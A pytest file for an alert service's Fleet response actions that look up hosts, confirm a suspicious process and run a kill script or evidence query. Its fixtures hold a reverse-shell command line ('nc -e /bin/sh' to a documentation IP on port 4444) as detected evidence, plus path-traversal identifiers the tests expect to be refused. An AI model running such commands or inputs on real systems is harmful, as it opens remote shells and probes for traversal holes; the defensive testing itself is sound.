"""Response actions ``fleet_script`` and ``fleet_live_query`` against a local Fleet API.

The server below implements the Fleet REST endpoints the actions use, as documented
(fleetdm/fleet https://github.com/fleetdm/fleet/blob/main/docs/REST%20API/rest-api.md
"Get host by identifier", "Run script";
https://github.com/fleetdm/fleet/blob/main/docs/REST%20API/queries.md "Run live query";
server/fleet/scripts.go
``HostScriptRequestPayload.ValidateParams``; server/service/live_queries.go
``runLiveQueryOnHostByIDEndpoint`` for ``POST /api/v1/fleet/hosts/{id}/query``), and
records every request. It stands in for each host's osquery too: a query on one host is
answered from that host's process and socket list. It checks
method, path, ``Authorization: Bearer``, content type and JSON body, and answers like
Fleet (``{"message", "errors": [{"name", "reason"}]}`` on errors).
"""

from __future__ import annotations

import json
import re
import socket
import threading
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from alerts_support import Answer, serve_endpoint
from alerts_support import Request as ScriptedRequest
from deliver_support import make_alert as shared_alert

from alert_service.config import build_config
from alert_service.errors import ConfigError, NotifyError
from alert_service.match import Alert
from alert_service.notify import (
    DEFAULT_REGISTRY,
    FleetLiveQueryNotifier,
    FleetScriptNotifier,
)
from alert_service.notify.fleet import host_identifier_for
from alert_service.secret import Secret

TOKEN = "fleet-api-token-123"
HOST_UUID = "392547dc-0000-0000-a87a-d701ff75bc65"
WEB_01 = {
    "id": 33,
    "uuid": HOST_UUID,
    "hostname": "web-01.example.com",
    "computer_name": "web-01",
    "display_name": "web-01",
    "hardware_serial": "C02XK0Y1JG5H",
}
DB_02 = {
    "id": 34,
    "uuid": "uuid-db-02",
    "hostname": "db-02",
    "computer_name": "db 1",
    "display_name": "db 1",
    "hardware_serial": "",
}
HOSTS = {
    HOST_UUID: WEB_01,
    "web-01.example.com": WEB_01,
    "web-01": WEB_01,
    "db 1": DB_02,
    "db-02": DB_02,
    "uuid-db-02": DB_02,
}
NC = {"pid": "4242", "name": "nc", "path": "/usr/bin/nc.openbsd"}
NC_SOCKET = {
    "pid": "4242",
    "local_address": "10.0.0.5",
    "local_port": "40001",
    "remote_address": "198.51.100.7",
    "remote_port": "4444",
}


@dataclass
class Request:
    method: str
    path: str
    query: dict[str, list[str]]
    headers: dict[str, str]
    body: Any


@dataclass
class FakeFleet:
    """State of the fake Fleet server."""

    url: str = ""
    requests: list[Request] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)
    # (method, path regex) -> list of (status, headers, body) answered before the real one
    overrides: dict[tuple[str, str], list[tuple[int, dict[str, str], Any]]] = field(
        default_factory=dict
    )
    live_results: dict[int, dict[str, Any]] = field(default_factory=dict)
    # What each host's osquery answers: processes and process_open_sockets rows by host id.
    processes: dict[int, list[dict[str, str]]] = field(
        default_factory=lambda: {33: [dict(NC)], 34: [dict(NC)]}
    )
    sockets: dict[int, list[dict[str, str]]] = field(
        default_factory=lambda: {33: [dict(NC_SOCKET)], 34: []}
    )
    offline: set[int] = field(default_factory=set)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def override(self, method: str, pattern: str, status: int, body: Any, **headers: str) -> None:
        self.overrides.setdefault((method, pattern), []).append((status, headers, body))


def _error(message: str, reason: str) -> dict[str, Any]:
    return {"message": message, "errors": [{"name": "base", "reason": reason}]}


def _route(state: FakeFleet, req: Request) -> tuple[int, dict[str, str], Any]:
    with state.lock:
        for (method, pattern), answers in state.overrides.items():
            if method == req.method and re.fullmatch(pattern, req.path) and answers:
                return answers.pop(0)
    if req.headers.get("Authorization") != f"Bearer {TOKEN}":
        return 401, {}, _error("Authentication required", "Authentication required")
    lookup = re.fullmatch(r"/api/v1/fleet/hosts/identifier/(.+)", req.path)
    if lookup:
        if req.method != "GET":
            state.violations.append(f"{req.method} on host lookup")
            return 405, {}, _error("Method Not Allowed", "")
        if req.query.get("exclude_software") != ["true"]:
            state.violations.append("host lookup without exclude_software=true")
        ident = urllib.parse.unquote(lookup.group(1))
        # Fleet's MySQL columns compare case-insensitively.
        found = {k.casefold(): v for k, v in HOSTS.items()}.get(ident.casefold())
        if found is None:
            return 404, {}, _error("Resource Not Found", f"Host {ident} was not found")
        return 200, {}, {"host": {**found, "software": None}}
    if req.method != "POST":
        state.violations.append(f"{req.method} {req.path}")
        return 405, {}, _error("Method Not Allowed", "")
    if not req.headers.get("Content-Type", "").startswith("application/json"):
        state.violations.append(f"POST {req.path} without a JSON content type")
    if not isinstance(req.body, dict):
        return 400, {}, _error("Bad request", "body is not a JSON object")
    if req.path == "/api/v1/fleet/scripts/run":
        return _run_script(state, req.body)
    run = re.fullmatch(r"/api/v1/fleet/queries/([0-9]+)/run", req.path)
    if run:
        return _run_query(state, int(run.group(1)), req.body)
    on_host = re.fullmatch(r"/api/v1/fleet/hosts/([0-9]+)/query", req.path)
    if on_host:
        return _query_host(state, int(on_host.group(1)), req.body)
    state.violations.append(f"unknown endpoint {req.path}")
    return 404, {}, _error("Resource Not Found", "")


def _run_script(state: FakeFleet, body: dict[str, Any]) -> tuple[int, dict[str, str], Any]:
    allowed = {"host_id", "script_id", "script_contents", "script_name", "team_id"}
    if set(body) - allowed or not isinstance(body.get("host_id"), int):
        state.violations.append(f"bad run-script body {body}")
        return 400, {}, _error("Bad request", "bad body")
    # Go decodes null into a zero value, so a null field counts as absent.
    ids = [k for k in ("script_id", "script_contents", "script_name") if body.get(k)]
    if len(ids) != 1:
        return (
            422,
            {},
            _error("Validation Failed", "One of 'script_id', 'script_contents', or 'script_name'"),
        )
    if body.get("team_id") and not body.get("script_name"):
        return 422, {}, _error("Validation Failed", "Only one of 'script_id' or 'team_id'")
    if body["host_id"] not in {h["id"] for h in HOSTS.values()}:
        return 404, {}, _error("Resource Not Found", "host not found")
    return 202, {}, {"host_id": body["host_id"], "execution_id": "e797d6c6-3aae-11ee-be56"}


def _run_query(
    state: FakeFleet, query_id: int, body: dict[str, Any]
) -> tuple[int, dict[str, str], Any]:
    host_ids = body.get("host_ids")
    if set(body) != {"host_ids"} or not isinstance(host_ids, list) or not host_ids:
        state.violations.append(f"bad live-query body {body}")
        return 400, {}, _error("Bad request", "host_ids required")
    results = [state.live_results[h] for h in host_ids if h in state.live_results]
    return (
        200,
        {},
        {
            "query_id": query_id,
            "targeted_host_count": len(host_ids),
            "responded_host_count": len(results),
            "results": results,
        },
    )


def _query_host(
    state: FakeFleet, host_id: int, body: dict[str, Any]
) -> tuple[int, dict[str, str], Any]:
    """One host's osquery, for the two questions the actions ask (anything else is a fault)."""
    sql = body.get("query")
    if set(body) != {"query"} or not isinstance(sql, str):
        state.violations.append(f"bad host-query body {body}")
        return 400, {}, _error("Bad request", "query required")
    if host_id in state.offline:
        return (
            200,
            {},
            {
                "host_id": host_id,
                "rows": [],
                "query": sql,
                "status": "offline",
                "error": "host is offline",
            },
        )
    asked = re.fullmatch(
        r"SELECT [a-z_, ]+ FROM (processes|process_open_sockets) WHERE pid = "
        r"([0-9]+)( AND remote_port = ([0-9]+))?;",
        sql,
    )
    if asked is None:
        state.violations.append(f"unexpected host query {sql!r}")
        return (
            200,
            {},
            {
                "host_id": host_id,
                "rows": [],
                "query": sql,
                "status": "online",
                "error": "near: syntax error",
            },
        )
    table = state.processes if asked.group(1) == "processes" else state.sockets
    rows = [
        r
        for r in table.get(host_id, [])
        if r["pid"] == asked.group(2) and asked.group(4) in (None, r.get("remote_port"))
    ]
    return 200, {}, {"host_id": host_id, "rows": rows, "query": sql, "status": "online"}


@pytest.fixture
def fleet() -> Iterator[FakeFleet]:
    state = FakeFleet()

    def respond(request: ScriptedRequest) -> Answer:
        parsed = urllib.parse.urlsplit(request.path)
        try:
            body = json.loads(request.body) if request.body else None
        except ValueError:
            body = request.body
        req = Request(
            request.method,
            parsed.path,
            urllib.parse.parse_qs(parsed.query),
            request.headers,
            body,
        )
        with state.lock:
            state.requests.append(req)
        status, headers, answer = _route(state, req)
        return Answer.json(status, answer, headers)

    with serve_endpoint("", respond) as endpoint:
        state.url = endpoint.base_url
        yield state
    assert state.violations == []


def make_alert(decorations: dict[str, str] | None = None, host: str = "web-01") -> Alert:
    return shared_alert(
        notify=("fleet",),
        host=host,
        counter=5,
        query_name="pack/Global/tracked_connections",
        pack="Global",
        columns={"pid": 4242, "name": "nc", "remote_address": "198.51.100.7", "remote_port": 4444},
        decorations=(
            {"host_uuid": HOST_UUID, "hostname": "web-01.example.com"}
            if decorations is None
            else decorations
        ),
    )


def script_action(fleet: FakeFleet, **options: Any) -> FleetScriptNotifier:
    base: dict[str, Any] = {"url": fleet.url, "api_token": Secret(TOKEN, "env:FLEET_API_TOKEN")}
    return FleetScriptNotifier.from_config("fleet-kill", {**base, **options})


def query_action(fleet: FakeFleet, **options: Any) -> FleetLiveQueryNotifier:
    base = {"url": fleet.url, "api_token": Secret(TOKEN, "env:T"), "query_id": 17}
    return FleetLiveQueryNotifier.from_config("fleet-evidence", {**base, **options})


# -- fleet_script ------------------------------------------------------------------------


def test_run_script_by_id(fleet: FakeFleet, caplog: pytest.LogCaptureFixture) -> None:
    action = script_action(fleet, script_id=42)
    alert = make_alert()
    payload = action.render(alert)
    assert payload == {
        "identifier": HOST_UUID,
        "script": {"script_id": 42},
        "alert": alert.as_dict(),
    }
    with caplog.at_level("INFO", logger="alert_service"):
        action.send(payload, idempotency_key=alert.id)
    lookup, confirm, run = fleet.requests
    assert (lookup.method, lookup.path) == ("GET", f"/api/v1/fleet/hosts/identifier/{HOST_UUID}")
    assert lookup.headers["Authorization"] == f"Bearer {TOKEN}"
    assert confirm.path == "/api/v1/fleet/hosts/33/query"
    assert (run.method, run.path) == ("POST", "/api/v1/fleet/scripts/run")
    assert run.body == {"host_id": 33, "script_id": 42}
    assert run.headers["Content-Type"] == "application/json; charset=utf-8"
    [record] = [r for r in caplog.records if r.getMessage() == "fleet_script_queued"]
    assert record.alert_fields["execution_id"] == "e797d6c6-3aae-11ee-be56"  # type: ignore[attr-defined]


def test_run_script_by_name_and_team(fleet: FakeFleet) -> None:
    action = script_action(fleet, script_name="kill-pid.sh", team_id=3)
    action.notify(make_alert())
    assert fleet.requests[-1].body == {"host_id": 33, "script_name": "kill-pid.sh", "team_id": 3}


def test_token_from_a_secret_file(fleet: FakeFleet, tmp_path: Path) -> None:
    token_file = tmp_path / "fleet-token"
    token_file.write_text("stale-token\n", encoding="utf-8")
    notifier = {"type": "fleet_script", "url": fleet.url, "script_id": 42}
    doc = config_doc({**notifier, "api_token": {"file": str(token_file)}})
    entry = build_config(doc, environ={}).notifiers[0]
    action = DEFAULT_REGISTRY.create(entry.name, entry.type, entry.options)
    with pytest.raises(NotifyError) as caught:
        action.notify(make_alert())
    assert "HTTP 401" in str(caught.value) and "Authentication required" in str(caught.value)
    assert caught.value.retryable is False
    assert "stale-token" not in str(caught.value)
    assert fleet.requests[0].headers["Authorization"] == "Bearer stale-token"

    token_file.write_text(f"{TOKEN}\n", encoding="utf-8")
    entry = build_config(doc, environ={}).notifiers[0]
    DEFAULT_REGISTRY.create(entry.name, entry.type, entry.options).notify(make_alert())
    assert fleet.requests[-1].body == {"host_id": 33, "script_id": 42}


def test_unknown_host_is_not_retried(fleet: FakeFleet) -> None:
    action = script_action(fleet, script_id=42, identifier="host_identifier")
    with pytest.raises(NotifyError) as caught:
        action.notify(make_alert(host="ghost-99"))
    err = caught.value
    assert err.retryable is False
    assert "host lookup: HTTP 404" in str(err) and "Host ghost-99 was not found" in str(err)
    assert [r.path for r in fleet.requests] == ["/api/v1/fleet/hosts/identifier/ghost-99"]


def test_identifier_is_url_encoded(fleet: FakeFleet) -> None:
    action = script_action(fleet, script_id=42, identifier="host_identifier")
    action.notify(make_alert(host="db 1", decorations={}))
    lookup = fleet.requests[0]
    assert lookup.path == "/api/v1/fleet/hosts/identifier/db%201"
    assert fleet.requests[-1].body == {"host_id": 34, "script_id": 42}


def test_rate_limited_run_keeps_retry_after(fleet: FakeFleet) -> None:
    fleet.override(
        "POST",
        "/api/v1/fleet/scripts/run",
        429,
        _error("limit exceeded, retry after: 7s", "limit exceeded"),
        **{"Retry-After": "7"},
    )
    with pytest.raises(NotifyError) as caught:
        script_action(fleet, script_id=42).notify(make_alert())
    assert caught.value.retryable is True
    assert caught.value.retry_after_secs == 7.0
    assert "limit exceeded, retry after: 7s" in str(caught.value)


def test_server_error_is_retryable(fleet: FakeFleet) -> None:
    fleet.override("POST", "/api/v1/fleet/scripts/run", 503, _error("Unavailable", "db"))
    action = script_action(fleet, script_id=42)
    with pytest.raises(NotifyError) as caught:
        action.notify(make_alert())
    assert (caught.value.retryable, caught.value.error_type) == (True, "http_status")
    action.notify(make_alert())  # the retry: Fleet is back
    runs = [r for r in fleet.requests if r.path == "/api/v1/fleet/scripts/run"]
    assert [r.body for r in runs] == [{"host_id": 33, "script_id": 42}] * 2


def test_validation_error_is_not_retried(fleet: FakeFleet) -> None:
    fleet.override(
        "POST",
        "/api/v1/fleet/scripts/run",
        422,
        _error("Validation Failed", "Script 42 doesn't exist"),
    )
    with pytest.raises(NotifyError) as caught:
        script_action(fleet, script_id=42).notify(make_alert())
    assert caught.value.retryable is False
    assert "run script: HTTP 422" in str(caught.value)
    assert "Script 42 doesn't exist" in str(caught.value)


def test_script_options_are_checked_when_built_in_code(fleet: FakeFleet) -> None:
    settings = script_action(fleet, script_id=1).settings
    with pytest.raises(ValueError, match="exactly one"):
        FleetScriptNotifier("x", settings)
    with pytest.raises(ValueError, match="exactly one"):
        FleetScriptNotifier("x", settings, script_id=1, script_name="a.sh")
    with pytest.raises(ValueError, match="team_id"):
        FleetScriptNotifier("x", settings, script_id=1, team_id=2)


def test_connection_refused_is_retryable() -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    action = FleetScriptNotifier.from_config(
        "fleet-kill", {"url": f"http://127.0.0.1:{port}", "api_token": TOKEN, "script_id": 1}
    )
    with pytest.raises(NotifyError) as caught:
        action.notify(make_alert())
    assert caught.value.retryable is True
    assert caught.value.error_type == "connection"


# -- identifiers -------------------------------------------------------------------------


def test_identifier_choice() -> None:
    fleet_alert = make_alert().as_dict()
    plain = make_alert(decorations={}).as_dict()
    assert host_identifier_for(fleet_alert, "auto") == HOST_UUID
    assert host_identifier_for(plain, "auto") == "web-01"
    assert host_identifier_for(fleet_alert, "hostname") == "web-01.example.com"
    assert host_identifier_for(fleet_alert, "host_identifier") == "web-01"
    assert host_identifier_for(plain, "host_uuid") == ""


def test_missing_identifier_is_not_sent(fleet: FakeFleet) -> None:
    action = script_action(fleet, script_id=42, identifier="host_uuid")
    with pytest.raises(NotifyError) as caught:
        action.notify(make_alert(decorations={}))
    assert caught.value.retryable is False
    assert fleet.requests == []


# -- whose host: what the line claims must agree with what Fleet knows --------------------


@pytest.mark.parametrize(
    "ident", ["..", ".", "a/../../users", "x?y", "web-01#a", "%2e%2e", "a\\b", "web\x00", "h" * 256]
)
def test_path_like_identifier_is_refused_before_any_request(fleet: FakeFleet, ident: str) -> None:
    action = script_action(fleet, script_id=42, identifier="host_identifier")
    with pytest.raises(NotifyError) as caught:
        action.notify(make_alert(host=ident, decorations={}))
    assert (caught.value.retryable, caught.value.error_type) == (False, "untrusted_host")
    assert fleet.requests == []


@pytest.mark.parametrize("identifier", ["auto", "host_identifier", "hostname"])
def test_line_naming_two_hosts_runs_nothing(fleet: FakeFleet, identifier: str) -> None:
    """hostIdentifier says web-01, the host_uuid decoration names db-02: refused either way."""
    action = script_action(fleet, script_id=42, identifier=identifier)
    forged = make_alert(
        host="web-01", decorations={"host_uuid": "uuid-db-02", "hostname": "web-01.example.com"}
    )
    with pytest.raises(NotifyError) as caught:
        action.notify(forged)
    assert (caught.value.retryable, caught.value.error_type) == (False, "untrusted_host")
    assert "decorations.host_uuid" in str(caught.value) or "hostIdentifier" in str(caught.value)
    assert not [r for r in fleet.requests if r.method == "POST"]


def test_evidence_query_also_refuses_a_line_naming_two_hosts(fleet: FakeFleet) -> None:
    fleet.live_results[34] = {"host_id": 34, "rows": [], "error": None}
    forged = make_alert(host="db-02", decorations={"host_uuid": HOST_UUID})
    with pytest.raises(NotifyError) as caught:
        query_action(fleet).notify(forged)
    assert caught.value.error_type == "untrusted_host"
    assert not [r for r in fleet.requests if r.method == "POST"]


def test_short_and_full_host_names_agree(fleet: FakeFleet) -> None:
    alert = make_alert(host="WEB-01", decorations={"host_uuid": HOST_UUID.upper()})
    script_action(fleet, script_id=42).notify(alert)
    assert fleet.requests[-1].body == {"host_id": 33, "script_id": 42}


# -- confirm before a disruptive action: the host itself must report the process ------------


def test_script_runs_after_the_host_reports_the_process(fleet: FakeFleet) -> None:
    script_action(fleet, script_id=42).notify(make_alert())
    _lookup, confirm, run = fleet.requests
    assert (confirm.method, confirm.path) == ("POST", "/api/v1/fleet/hosts/33/query")
    assert confirm.body == {"query": "SELECT pid, name, path FROM processes WHERE pid = 4242;"}
    assert run.body == {"host_id": 33, "script_id": 42}


@pytest.mark.parametrize(
    ("processes", "why"),
    [
        ([], "reports no process 4242"),
        ([{**NC, "name": "sshd", "path": "/usr/sbin/sshd"}], "is sshd"),
    ],
)
def test_script_does_not_run_when_the_host_denies_the_process(
    fleet: FakeFleet, processes: list[dict[str, str]], why: str
) -> None:
    fleet.processes[33] = processes
    with pytest.raises(NotifyError) as caught:
        script_action(fleet, script_id=42).notify(make_alert())
    assert (caught.value.retryable, caught.value.error_type) == (False, "not_confirmed")
    assert why in str(caught.value)
    assert not [r for r in fleet.requests if r.path == "/api/v1/fleet/scripts/run"]


def test_a_name_the_kernel_cut_to_15_characters_still_confirms(fleet: FakeFleet) -> None:
    fleet.processes[33] = [{**NC, "name": "java-app-server"}]
    alert = make_alert()
    long_name = {**alert.event.columns, "name": "java-app-server-worker"}
    alert = Alert(alert.id, alert.rule, alert.notify, replace(alert.event, columns=long_name))
    script_action(fleet, script_id=42).notify(alert)
    assert fleet.requests[-1].path == "/api/v1/fleet/scripts/run"


def test_alert_without_a_pid_is_not_confirmed(fleet: FakeFleet) -> None:
    alert = make_alert()
    columns = {k: v for k, v in alert.event.columns.items() if k != "pid"}
    alert = Alert(alert.id, alert.rule, alert.notify, replace(alert.event, columns=columns))
    with pytest.raises(NotifyError) as caught:
        script_action(fleet, script_id=42).notify(alert)
    assert caught.value.error_type == "not_confirmed"
    assert not [r for r in fleet.requests if r.method == "POST"]


def test_offline_host_is_retried_later(fleet: FakeFleet) -> None:
    fleet.offline.add(33)
    action = script_action(fleet, script_id=42)
    with pytest.raises(NotifyError) as caught:
        action.notify(make_alert())
    assert (caught.value.retryable, caught.value.error_type) == (True, "no_answer")
    fleet.offline.clear()
    action.notify(make_alert())
    assert fleet.requests[-1].body == {"host_id": 33, "script_id": 42}


def test_confirm_connection_asks_for_the_socket_too(fleet: FakeFleet) -> None:
    alert = make_alert()
    columns = {**alert.event.columns, "local_address": "10.0.0.5", "local_port": 40001}
    alert = Alert(alert.id, alert.rule, alert.notify, replace(alert.event, columns=columns))
    action = script_action(fleet, script_id=42, confirm="connection")
    action.notify(alert)
    asked = [r.body["query"] for r in fleet.requests if r.path.endswith("/query")]
    assert asked[1] == (
        "SELECT pid, local_address, local_port, remote_address, remote_port "
        "FROM process_open_sockets WHERE pid = 4242 AND remote_port = 4444;"
    )
    fleet.sockets[33] = [{**NC_SOCKET, "remote_address": "198.51.100.8"}]
    with pytest.raises(NotifyError) as caught:
        action.notify(alert)
    assert caught.value.error_type == "not_confirmed"
    assert "reports no such connection" in str(caught.value)


def test_confirm_none_runs_at_once(fleet: FakeFleet) -> None:
    fleet.processes[33] = []
    script_action(fleet, script_id=42, confirm="none").notify(make_alert())
    assert [r.path for r in fleet.requests][-1] == "/api/v1/fleet/scripts/run"
    assert not [r for r in fleet.requests if r.path.endswith("/query")]


# -- fleet_live_query --------------------------------------------------------------------


def test_live_query_writes_evidence(fleet: FakeFleet, tmp_path: Path) -> None:
    rows = [{"pid": "4242", "name": "nc", "cmdline": "nc -e /bin/sh 198.51.100.7 4444"}]
    fleet.live_results[33] = {"host_id": 33, "rows": rows, "error": None}
    evidence_dir = tmp_path / "evidence"
    action = query_action(fleet, evidence_dir=str(evidence_dir))
    alert = make_alert()
    payload = action.render(alert)
    assert payload == {"identifier": HOST_UUID, "query_id": 17, "alert": alert.as_dict()}
    action.send(payload, idempotency_key=alert.id)
    run = fleet.requests[-1]
    assert (run.method, run.path, run.body) == (
        "POST",
        "/api/v1/fleet/queries/17/run",
        {"host_ids": [33]},
    )
    target = evidence_dir / f"{alert.id}.fleet-evidence.json"
    record = json.loads(target.read_text(encoding="utf-8"))
    assert record["fleet"] == {"query_id": 17, "host_id": 33, "rows": rows}
    assert record["alert"] == alert.as_dict()
    assert target.stat().st_mode & 0o777 == 0o640
    assert [p.name for p in evidence_dir.iterdir()] == [target.name]


def test_live_query_without_an_answer_is_retryable(fleet: FakeFleet, tmp_path: Path) -> None:
    with pytest.raises(NotifyError) as caught:
        query_action(fleet, evidence_dir=str(tmp_path)).notify(make_alert())
    assert caught.value.retryable is True
    assert caught.value.error_type == "no_answer"
    assert list(tmp_path.iterdir()) == []


def test_live_query_host_error_is_not_retried(fleet: FakeFleet) -> None:
    fleet.live_results[33] = {
        "host_id": 33,
        "rows": [],
        "error": "no such table: tracked_connections",
    }
    with pytest.raises(NotifyError) as caught:
        query_action(fleet).notify(make_alert())
    assert caught.value.retryable is False
    assert "no such table: tracked_connections" in str(caught.value)


def test_live_query_without_evidence_dir_only_logs(
    fleet: FakeFleet, caplog: pytest.LogCaptureFixture
) -> None:
    fleet.live_results[33] = {"host_id": 33, "rows": [{"a": "1"}, {"a": "2"}], "error": None}
    with caplog.at_level("INFO", logger="alert_service"):
        query_action(fleet).notify(make_alert())
    [record] = [r for r in caplog.records if r.getMessage() == "fleet_live_query_done"]
    fields = record.alert_fields  # type: ignore[attr-defined]
    assert (fields["rows"], fields["evidence"], fields["host_id"]) == (2, None, 33)


# -- configuration -----------------------------------------------------------------------


def config_doc(notifier: dict[str, Any]) -> dict[str, Any]:
    return {
        "sources": [{"path": "/var/log/fleet/osquery_result"}],
        "notifiers": [{"name": "act", **notifier}],
        "rules": [{"name": "r", "notify": ["act"], "remote_port": [4444]}],
    }


def test_valid_fleet_configs_build(tmp_path: Path) -> None:
    script = {
        "type": "fleet_script",
        "url": "https://fleet.example.com",
        "api_token": {"env": "FLEET_API_TOKEN"},
        "script_name": "kill-pid.sh",
        "team_id": 3,
        "identifier": "hostname",
    }
    config = build_config(config_doc(script), environ={"FLEET_API_TOKEN": TOKEN})
    [entry] = config.notifiers
    built = DEFAULT_REGISTRY.create(entry.name, entry.type, entry.options)
    assert isinstance(built, FleetScriptNotifier)
    assert (built.script_name, built.team_id, built.settings.identifier) == (
        "kill-pid.sh",
        3,
        "hostname",
    )
    assert built.default_rate_limit_per_minute == 6.0
    token = tmp_path / "token"
    token.write_text(TOKEN, encoding="utf-8")
    query = {
        "type": "fleet_live_query",
        "url": "https://fleet.example.com",
        "api_token": {"file": str(token)},
        "query_id": 17,
    }
    entry = build_config(config_doc(query), environ={}).notifiers[0]
    built = DEFAULT_REGISTRY.create(entry.name, entry.type, entry.options)
    assert isinstance(built, FleetLiveQueryNotifier)
    assert built.settings.timeout_secs == 40.0
    assert isinstance(built.settings.api_token, Secret)
    assert built.settings.api_token.reveal() == TOKEN


TOKEN_ENV = {"env": "FLEET_API_TOKEN"}


@pytest.mark.parametrize(
    "notifier",
    [
        {"type": "fleet_script", "url": "https://f", "script_id": 1},
        {"type": "fleet_script", "url": "https://f", "api_token": "inline", "script_id": 1},
        {"type": "fleet_script", "url": "https://f", "api_token": TOKEN_ENV},
        {
            "type": "fleet_script",
            "url": "https://f",
            "api_token": TOKEN_ENV,
            "script_id": 1,
            "script_name": "x.sh",
        },
        {
            "type": "fleet_script",
            "url": "https://f",
            "api_token": TOKEN_ENV,
            "script_id": 1,
            "team_id": 2,
        },
        {"type": "fleet_script", "url": "ftp://f", "api_token": TOKEN_ENV, "script_id": 1},
        {"type": "fleet_live_query", "url": "https://f", "api_token": TOKEN_ENV},
        {"type": "fleet_live_query", "url": "https://f", "api_token": TOKEN_ENV, "query_id": 0},
        {
            "type": "fleet_live_query",
            "url": "https://f",
            "api_token": TOKEN_ENV,
            "query_id": 1,
            "evidence_dir": "relative/dir",
        },
        {
            "type": "fleet_live_query",
            "url": "https://f",
            "api_token": TOKEN_ENV,
            "query_id": 1,
            "x": 1,
        },
    ],
)
def test_bad_fleet_configs_are_refused(notifier: dict[str, Any]) -> None:
    with pytest.raises(ConfigError) as caught:
        build_config(config_doc(notifier), environ={"FLEET_API_TOKEN": TOKEN})
    assert any(p.path.startswith("$.notifiers[0]") for p in caught.value.problems), caught.value
